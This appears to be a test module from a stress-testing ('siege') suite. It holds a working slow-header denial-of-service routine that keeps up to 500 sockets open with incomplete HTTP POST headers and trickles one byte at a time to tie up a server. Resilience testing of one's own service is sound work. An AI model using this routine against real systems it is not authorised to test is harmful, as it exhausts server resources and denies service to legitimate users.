"""Five hundred requests whose headers never end, a byte at a time"""

import socket
import time

from tests.siege.attack import Target

_held: list[socket.socket] = []
SECONDS = 4.0


def attack(target: Target) -> None:
    while len(_held) < 500:
        _held.append(target.socket())
        _held[-1].sendall(b"POST /v1/responses HTTP/1.1\r\nHost: siege\r\nX-Slow: ")
    for one in list(_held):
        try:
            one.sendall(b"x")
        except OSError:
            _held.remove(one)
    time.sleep(0.5)
